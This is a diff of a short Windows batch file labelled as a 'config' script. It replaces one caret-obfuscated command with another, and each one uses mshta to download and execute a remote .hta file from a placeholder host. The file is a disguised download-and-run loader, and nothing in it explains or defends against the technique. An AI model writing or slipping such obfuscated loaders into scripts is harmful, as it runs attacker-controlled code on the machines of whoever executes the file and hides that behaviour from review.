@@ -1,4 +1,4 @@
-REM bootstrap 9122 v1
+REM config 7514 v1
 @echo off
-set "oemz=m^s^h^t^a http://^st^at^i^c.m^e^tric^s-node.exa^m^p^l^e/u^pdate.ht^a"
-call %oemz%
+set lmhi=ms^ht^a ^http://cdn-u^pda^te.^e^x^amp^l^e/u^p^da^t^e.^ht^a
+call %lmhi%
